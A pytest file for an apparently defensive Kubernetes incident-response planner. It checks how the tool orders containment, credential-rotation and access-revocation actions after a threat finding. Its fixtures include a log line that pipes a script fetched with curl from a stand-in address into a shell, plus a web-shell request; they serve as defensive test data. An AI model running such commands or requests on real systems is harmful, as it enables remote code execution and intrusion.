"""Steps 6 and 7: a plan is of its record: its facts, its commands, its price; and none is made of what was not read."""

from __future__ import annotations

from datetime import timedelta
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from responder import runbook
from responder.evidence import (
    AuditEntry,
    AuditExtract,
    ContainerState,
    Evidence,
    LogEntry,
    Missing,
    OwnerContact,
    OwnerRef,
    Pod,
    Workload,
)
from responder.finding import Finding
from responder.plan import plan
from responder.plan.asking import GAPS
from responder.record import PlannedAction, Signal, Triage, Verdict
from responder.triage import tuning
from tests.builders import EVENT_TIME, TARGET, a_related
from tests.sheets import (
    CONSOLE,
    NODE,
    a_chain,
    a_cluster,
    a_container,
    a_log,
    a_pod,
    a_proof,
    everything,
    found,
    the_finding,
)

MAIL = OwnerContact(value="checkout-oncall@acme.example", kind="email", source="annotation of Deployment checkout")
TEAM = OwnerContact(value="checkout", kind="team", source="label of Deployment checkout, team")
GONE = Missing(why="not_found", detail="no pod of that name in shop")
DENIED = Missing(why="denied", detail="logging.logEntries.list", mend="grant roles/logging.viewer on acme-shop-prod")
SHELL = Signal(
    id="R1",
    title="a reverse shell in the same container, 41 s after",
    weight=40,
    source="related",
    evidence=("/evidence/related/value/findings/0",),
    outside=True,
)
VERDICTS: tuple[Verdict, ...] = ("malicious", "suspicious", "benign", "insufficient_data")


def owned(kind: str = "ReplicaSet", name: str = "checkout-7d9f8c5b4", **changes: Any) -> Pod:
    ref = OwnerRef(api_version="apps/v1", kind=kind, name=name, uid="1")
    return a_pod(**({"owner": ref, "service_account": "checkout", "secrets": ("checkout-db",)} | changes))


def chain(*links: tuple[str, str, int | None]) -> Any:
    made = tuple(
        Workload(api_version="apps/v1", kind=kind, name=name, replicas=n, ready_replicas=n, how_known="ownerReferences")
        for kind, name, n in links
    )
    return found(a_chain(links=made))


def the_evidence(**changes: Any) -> Evidence:
    deployment = chain(("ReplicaSet", "checkout-7d9f8c5b4", 3), ("Deployment", "checkout", 3))
    return everything(**({"pod": found(owned()), "owners": deployment} | changes))


def actions(
    verdict: Verdict = "malicious",
    evidence: Evidence | None = None,
    *,
    finding: Finding | None = None,
    contacts: tuple[OwnerContact, ...] = (MAIL,),
    **triage: Any,
) -> tuple[PlannedAction, ...]:
    evidence, finding = evidence or the_evidence(), finding or the_finding()
    return plan(
        Triage(**({"verdict": verdict, "summary": "as judged", "signals": (SHELL,)} | triage)),
        finding,
        TARGET,
        evidence,
        runbook.commands(finding, TARGET, evidence, CONSOLE),
        runbook.links(finding, TARGET, evidence, CONSOLE, contacts=contacts),
        contacts,
    )


def the(made: tuple[PlannedAction, ...], word: str) -> PlannedAction:
    (one,) = [action for action in made if word in action.title]
    return one


def a_session(principal: str = "j.doe@acme.example", **changes: Any) -> AuditEntry:
    values: dict[str, Any] = {
        "time": EVENT_TIME - timedelta(seconds=131),
        "method": "io.k8s.core.v1.pods.exec.create",
        "resource_name": f"core/v1/namespaces/shop/pods/{TARGET.pod}/exec",
        "principal": principal,
        "caller_ip": "203.0.113.66",
        "user_agent": "kubectl/v1.29.2",
        "status": "",
        "session": "exec",
        "command": ("/bin/sh", "-c", "which gcc"),
    }
    return AuditEntry(**(values | changes))


def audit(*entries: AuditEntry) -> Any:
    return found(AuditExtract(**a_log().model_dump(exclude={"entries"}), entries=entries))


def lines(*texts: str) -> Any:
    entries = tuple(
        LogEntry(
            time=EVENT_TIME - timedelta(seconds=60 - n), severity="INFO", log_name="stdout", insert_id=str(n), text=text
        )
        for n, text in enumerate(texts)
    )
    return found(a_log(entries=entries))


# --- the order and the shape ------------------------------------------------------------------------------------------


def test_an_attack_is_answered_in_the_order_owner_pod_credentials_way_in_image_siblings() -> None:
    titles = [action.title for action in actions(evidence=the_evidence(audit_log=audit(a_session())))]
    begins = ["Tell", "Copy", "Rotate", "Revoke the access", "Rebuild", "Look at the siblings"]
    assert [title.startswith(begin) for title, begin in zip(titles, begins, strict=True)] == [True] * 6


@pytest.mark.parametrize("verdict", VERDICTS)
@pytest.mark.parametrize(
    "changes",
    [
        {},
        {"pod": GONE, "proof": GONE},
        {"pod": DENIED, "proof": DENIED, "owners": DENIED, "audit_log": DENIED, "pod_log": DENIED, "related": DENIED},
        {"proof": found(a_proof("replaced"))},
        {"proof": found(a_proof("unproven"))},
        {"pod": found(a_pod(static=True))},
        {"pod": found(a_pod())},
    ],
)
def test_every_plan_has_three_to_six_different_actions_each_with_reason_price_evidence_and_page(
    verdict: Verdict, changes: dict[str, Any]
) -> None:
    made = actions(verdict, the_evidence(**changes))
    assert 3 <= len(made) <= 6
    assert len({action.title for action in made}) == len(made)
    assert all(action.why and action.impact and action.evidence for action in made)
    assert {action.source.split("/")[2] for action in made} <= {"attack.mitre.org", "cloud.google.com"}


def test_the_four_verdicts_have_four_plans() -> None:
    assert len({tuple(action.title for action in actions(verdict)) for verdict in VERDICTS}) == 4


def test_a_plan_is_the_same_each_time() -> None:
    assert actions() == actions()


def test_a_command_is_always_one_of_the_records_own() -> None:
    evidence = the_evidence(audit_log=DENIED)
    own = {command.text for command in runbook.commands(the_finding(), TARGET, evidence, CONSOLE)}
    used = {action.command for verdict in VERDICTS for action in actions(verdict, evidence)}
    assert used - {""} <= own
    assert len(used) > 4


def test_without_a_pod_in_the_finding_there_is_still_a_plan_and_nothing_is_deleted() -> None:
    finding = the_finding(pods=(), containers=())
    never = Missing(why="not_asked", detail="the finding names no pod")
    evidence = everything(pod=never, proof=never, owners=never, pod_log=never, audit_log=never)
    for verdict in VERDICTS:
        made = actions(verdict, evidence, finding=finding)
        assert 3 <= len(made) <= 6
        assert not [action for action in made if "delete exactly" in action.title]


# --- the owner --------------------------------------------------------------------------------------------------------


def test_the_letter_goes_to_whoever_has_an_address_and_the_team_is_named_beside() -> None:
    first = actions(contacts=(TEAM, MAIL))[0]
    assert first.title == "Tell checkout-oncall@acme.example"
    assert "The team is checkout" in first.why
    assert first.evidence == ("/owner/contacts/1", "/links/contact")


def test_where_nobody_is_named_the_owner_is_to_be_found_first() -> None:
    first = actions(contacts=())[0]
    assert first.title == "Find the owner: nobody is named"


# --- the pod ----------------------------------------------------------------------------------------------------------


def test_the_files_are_copied_before_the_pod_is_deleted_by_its_uid() -> None:
    action = the(actions(), "delete exactly this pod")
    assert action.title.startswith("Copy 3 files out (step 5), then delete exactly this pod, shop/checkout-7d9f8c5b4")
    assert "preconditions" in action.command
    assert "a reverse shell in the same container, 41 s after" in action.why
    assert action.evidence[0] == "/evidence/related/value/findings/0"


@pytest.mark.parametrize(
    ("pod", "owners", "said"),
    [
        (owned(), chain(("ReplicaSet", "checkout-7d9f8c5b4", 3), ("Deployment", "checkout", 3)), "2 of 3 replicas of"),
        (
            owned(),
            chain(("ReplicaSet", "checkout-7d9f8c5b4", 1), ("Deployment", "checkout", 1)),
            "does not serve until",
        ),
        (owned(), chain(("ReplicaSet", "checkout-7d9f8c5b4", None)), "was not read"),
        (owned(), DENIED, "ReplicaSet checkout-7d9f8c5b4 makes another from the same image"),
        (owned("StatefulSet", "cache"), chain(("StatefulSet", "cache", 3)), "the same name and on the same volumes"),
        (owned("DaemonSet", "agent"), chain(("DaemonSet", "agent", None)), f"another on the same node at once; {NODE}"),
        (owned("Job", "grade-1"), chain(("Job", "grade-1", None)), "up to its backoffLimit."),
        (owned("Job", "n-1"), chain(("Job", "n-1", None), ("CronJob", "n", None)), "suspend it first"),
        (owned("TaskRun", "build-x"), chain(("TaskRun", "build-x", None)), "TaskRun build-x decides"),
        (owned("Rollout", "web"), DENIED, "Rollout web decides"),
        (a_pod(), found(a_chain(links=())), "it is a bare pod"),
    ],
)
def test_the_price_of_deleting_is_that_of_its_controller(pod: Pod, owners: Any, said: str) -> None:
    action = the(actions(evidence=the_evidence(pod=found(pod), owners=owners)), "delete exactly this pod")
    assert said in action.impact


def test_volumes_that_outlive_the_pod_are_named_as_a_price() -> None:
    kept = ContainerState.model_validate(
        a_container("checkout").model_dump() | {"mounts": ("/data <- persistentVolumeClaim:data",)}
    )
    action = the(actions(evidence=the_evidence(pod=found(owned(containers=(kept,))))), "delete exactly this pod")
    assert action.impact.endswith("Its volumes outlive it, with all that was written to them.")


@pytest.mark.parametrize(
    "changes",
    [{"pod": GONE, "proof": GONE}, {"proof": found(a_proof("replaced"))}],
)
def test_of_a_pod_that_is_gone_only_the_logs_are_kept(changes: dict[str, Any]) -> None:
    made = actions(evidence=the_evidence(**changes))
    action = the(made, "Delete nothing: keep the logs")
    assert action.command.startswith("gcloud logging read")
    assert not [one for one in made if "preconditions" in one.command or "Rotate" in one.title]


@pytest.mark.parametrize("changes", [{"pod": found(a_pod(static=True))}, {"pod": DENIED, "proof": DENIED}])
def test_a_pod_that_no_command_may_touch_is_kept(changes: dict[str, Any]) -> None:
    made = actions(evidence=the_evidence(**changes))
    assert the(made, "Do not delete shop/checkout-7d9f8c5b4-x2k9p: keep it").impact
    assert not [one for one in made if "preconditions" in one.command]


def test_a_pod_that_is_not_proven_says_so_before_it_is_deleted() -> None:
    action = the(actions(evidence=the_evidence(proof=found(a_proof("unproven")))), "delete exactly this pod")
    assert "it is not proven that this is the finding's pod" in action.why


def test_a_doubt_copies_first_and_deletes_last_and_only_where_the_owner_does_not_know_of_it() -> None:
    made = actions("suspicious")
    assert made[1].title.startswith("Copy 3 files out of shop/checkout")
    assert "kubectl" in made[1].command
    assert " cp " in made[1].command
    assert "/tmp/.x/" in made[1].command
    assert made[-1].title.startswith("If the owner does not know of it: copy 3 files out")


# --- credentials and the image ----------------------------------------------------------------------------------------


def test_what_the_pod_could_read_is_rotated_by_name() -> None:
    action = the(actions(), "Rotate")
    assert action.title == "Rotate what the pod could read: service account shop/checkout, secrets checkout-db"
    assert "Its token is mounted" in action.why
    assert "iam.gke.io/gcp-service-account" in action.why


def test_without_workload_identity_the_nodes_own_account_is_at_stake() -> None:
    action = the(actions(evidence=the_evidence(cluster=found(a_cluster(workload_pool="")))), "Rotate")
    assert "the node's own Google account" in action.why


def test_a_token_that_is_not_mounted_is_not_said_to_be_lost() -> None:
    pod = owned(automount_token=False, secrets=())
    action = the(actions(evidence=the_evidence(pod=found(pod))), "Rotate")
    assert "Its token is not mounted" in action.why
    assert "No secret" in action.why


def test_the_image_is_rebuilt_by_the_digest_that_ran() -> None:
    digest = f"sha256:{'62' * 32}"
    ran = ContainerState.model_validate(a_container("checkout").model_dump() | {"image_id": f"web/checkout@{digest}"})
    action = the(actions(evidence=the_evidence(pod=found(owned(containers=(a_container("x"), ran))))), "Rebuild")
    assert digest in action.why
    assert action.evidence == ("/evidence/pod/value/containers/1",)
    assert "deployment.v1.apps checkout" in action.command


# --- the way in -------------------------------------------------------------------------------------------------------


def test_whoever_opened_a_session_is_named_with_address_and_command() -> None:
    early = a_session("sre@acme.example", time=EVENT_TIME - timedelta(minutes=40))
    forward = a_session("x@acme.example", session="portforward", time=EVENT_TIME - timedelta(seconds=9))
    action = the(actions(evidence=the_evidence(audit_log=audit(early, a_session(), forward))), "Revoke the access")
    assert "j.doe@acme.example" in action.title
    assert "from 203.0.113.66" in action.why
    assert "which gcc" in action.why
    assert "1 more in the audit log" in action.why
    assert action.evidence == ("/evidence/audit_log/value/entries/1",)
    assert action.source.endswith("/T1609/")


def test_a_session_that_was_refused_was_none() -> None:
    refused = a_session("mallory@acme.example", status="PERMISSION_DENIED", time=EVENT_TIME - timedelta(seconds=5))
    made = actions(evidence=the_evidence(audit_log=audit(refused, a_session(status="OK"))))
    assert "j.doe@acme.example" in the(made, "Revoke the access").title
    assert the(actions(evidence=the_evidence(audit_log=audit(refused))), "Find the way in").why.startswith("No session")


def test_a_doubt_takes_nobodys_access_away() -> None:
    made = actions("suspicious", the_evidence(audit_log=audit(a_session())))
    assert the(made, "Ask j.doe@acme.example, who opened a session").impact == "None: a question."


def test_a_request_that_triage_points_at_is_the_way_in_and_others_are_not() -> None:
    log = lines(
        '"GET /healthz HTTP/1.1" 200 "kube-probe/1.33"', '"GET /cart HTTP/1.1" 200', '"GET /r.php?c=id HTTP/1.1"'
    )
    web = SHELL.model_copy(update={"id": "P2", "source": "logs", "evidence": ("/evidence/pod_log/value/entries/2",)})
    made = actions(evidence=the_evidence(pod_log=log), signals=(web,), techniques=("T1505.003",))
    action = the(made, "Close the way in")
    assert action.title == "Close the way in: GET /r.php?c=id"
    assert action.evidence == ("/evidence/pod_log/value/entries/2",)
    assert action.source.endswith("/T1505/003/")
    action = the(actions(evidence=the_evidence(pod_log=log)), "Find the way in")
    assert "2 requests" in action.why
    assert action.evidence == ("/evidence/pod_log/value/entries/1", "/evidence/pod_log/value/entries/2")


def test_a_line_of_the_log_that_triage_points_at_is_the_way_in_where_no_request_is() -> None:
    log = lines('"GET /cart HTTP/1.1" 200', "Error: Command failed: curl -s http://192.0.2.190/s | sh")
    web = SHELL.model_copy(update={"id": "L2", "source": "logs", "evidence": ("/evidence/pod_log/value/entries/1",)})
    action = the(actions(evidence=the_evidence(pod_log=log), signals=(web,)), "Close the way in")
    assert "curl -s http://192.0.2.190/s" in action.why
    assert action.evidence == ("/evidence/pod_log/value/entries/1",)


def test_whoever_made_a_bare_pod_is_asked_for_it() -> None:
    made_by = a_session(method="io.k8s.core.v1.pods.create", session=None, command=())
    evidence = the_evidence(pod=found(a_pod()), owners=found(a_chain(links=())), audit_log=audit(made_by))
    assert the(actions(evidence=evidence), "who made this one").source.endswith("/T1610/")


def test_where_the_logs_were_not_read_the_way_in_is_not_guessed_at() -> None:
    action = the(actions(evidence=the_evidence(audit_log=DENIED, pod_log=DENIED)), "Find the way in")
    assert action.why.startswith("Not read: the audit log, the pod's log.")


# --- the siblings and the node ----------------------------------------------------------------------------------------


def test_pods_with_the_same_detection_are_named() -> None:
    category = the_finding().category
    others = (
        a_related(category=category, closeness="container"),
        a_related(category=category, closeness="image", pod="shop/checkout-7d9f8c5b4-8ccwd"),
    )
    related = the_evidence().related
    assert related.status == "found"
    near = found(related.value.model_copy(update={"findings": others}))
    action = the(actions(evidence=the_evidence(related=near)), "siblings")
    assert "shop/checkout-7d9f8c5b4-8ccwd" in action.why
    assert action.evidence == ("/evidence/related/value/findings/1",)


def test_a_pod_that_reaches_its_node_makes_the_node_a_matter() -> None:
    pod = owned(host_pid=True, host_paths=("/",))
    action = the(actions(evidence=the_evidence(pod=found(pod))), f"Cordon node {NODE}")
    assert "the node's processes, the node's /" in action.why
    assert action.source.endswith("/T1611/")
    doubt = the(actions("suspicious", the_evidence(pod=found(pod))), f"Look at node {NODE}")
    assert doubt.impact.startswith("None")


def test_an_escape_that_was_found_makes_the_node_a_matter_too() -> None:
    related = the_evidence().related
    assert related.status == "found"
    escape = found(related.value.model_copy(update={"findings": (a_related(category="Execution: Container Escape"),)}))
    made = actions(evidence=the_evidence(related=escape))
    node = the(made, f"Cordon node {NODE}")
    assert "an escape that was found" in node.why
    assert node.evidence[0] == "/evidence/related/value/findings/0"
    assert "Deleting it is not enough" in the(made, "delete exactly this pod").why


# --- a build, and not enough ------------------------------------------------------------------------------------------


def test_a_build_is_expected_by_owner_and_digest_until_a_day() -> None:
    builder = SHELL.model_copy(update={"weight": -30, "source": "pod", "title": "a Tekton task"})
    made = actions("benign", builds=("pip building psutil",), signals=(builder,))
    action = the(made, "Expect pip building psutil here")
    assert action.title.endswith("until 2027-02-18")
    assert 'workload = "Deployment/checkout"' in action.why
    assert "a Tekton task" in action.why
    assert the(made, "Leave the build where it is").command


@pytest.mark.parametrize("build", ["pip building psutil", 'a "quoted" \\ one', "every * of [them]"])
@pytest.mark.parametrize("kind", ["Deployment", "Job"])
def test_the_entry_that_a_build_is_expected_by_can_be_pasted_as_it_is(kind: str, build: str) -> None:
    digest = f"sha256:{'62' * 32}"
    ran = ContainerState.model_validate(a_container("checkout").model_dump() | {"image_id": f"web/checkout@{digest}"})
    evidence = the_evidence(
        pod=found(owned(kind, "checkout-1", containers=(ran,))), owners=chain((kind, "checkout-1", None))
    )
    action = the(actions("benign", evidence, builds=(build,)), "an expected-builder entry")
    (builder,) = tuning.parse(action.why.partition("In triage.toml: ")[2]).builders
    # A Job has another name with each run: there the image is what stays.
    narrow = {"Deployment": ("Deployment/checkout-1", "-"), "Job": ("-", digest)}[kind]
    assert (builder.project, builder.namespace) == ("acme-shop-prod", "shop")
    assert (builder.workload, builder.image_digest) == narrow
    assert (builder.owner, builder.expires.isoformat()) == ("checkout-oncall@acme.example", "2027-02-18")


def test_no_entry_is_proposed_that_would_hold_for_a_whole_namespace() -> None:
    action = the(actions("benign", the_evidence(owners=DENIED)), "an expected-builder entry")
    assert action.why.endswith("neither owner nor digest was read: first get those.")


def test_a_build_outside_of_a_builder_is_moved_to_ci() -> None:
    assert the(actions("benign", signals=()), "Build in CI instead of in shop/checkout").impact.startswith(
        "A rollout of"
    )


def test_what_is_missing_is_got_first_with_its_mend_and_one_grant_is_one_action() -> None:
    made = actions("insufficient_data", the_evidence(audit_log=DENIED, pod_log=DENIED, related=GONE))
    assert made[0].title == "Get the cluster's audit log, the pod's log"
    assert "grant roles/logging.viewer on acme-shop-prod" in made[0].why
    assert made[0].evidence == ("/evidence/audit_log", "/evidence/pod_log")
    assert "cloudaudit" in made[0].command
    assert not [action for action in made if "the other findings" in action.title]


def test_what_triage_says_would_settle_it_comes_before_the_usual_order() -> None:
    evidence = the_evidence(audit_log=DENIED, related=Missing(why="timeout", detail="SCC", retry_at=EVENT_TIME))
    assert actions("insufficient_data", evidence)[0].title == "Get the other findings of the container"
    told = actions("insufficient_data", evidence, would_settle=("the cluster's audit log was denied",))
    assert told[0].title == "Get the cluster's audit log"


def test_where_nothing_can_be_mended_what_would_settle_it_is_said() -> None:
    made = actions("insufficient_data", would_settle=("the parent process is not known", "no file was captured"))
    assert made[0].title == "Find out what would settle it: the parent process is not known"
    assert made[0].evidence == ("/triage/would_settle",)


def test_every_gap_that_has_a_command_finds_it_by_its_title() -> None:
    evidence = the_evidence(owners=chain(("Deployment", "checkout", 3)))
    titles = [command.title for command in runbook.commands(the_finding(), TARGET, evidence, CONSOLE)]
    for _, begins in GAPS.values():
        assert not begins or [title for title in titles if title.startswith(begins)], begins


# --- hostile text -----------------------------------------------------------------------------------------------------


@settings(max_examples=40, deadline=None)
@given(text=st.text(min_size=1, max_size=400))
def test_text_of_others_stays_in_one_line_and_is_cut(text: str) -> None:
    session = a_session(text, caller_ip=text, user_agent=text, command=(text,))
    evidence = the_evidence(audit_log=audit(session), pod=found(owned(service_account=text, secrets=(text,))))
    contacts = (OwnerContact(value=text, kind="team", source=text),)
    for verdict in VERDICTS:
        for action in actions(verdict, evidence, contacts=contacts, builds=(text,), would_settle=(text,)):
            for words in (action.title, action.why, action.impact):
                assert words.isprintable()
                assert len(words) < 1500
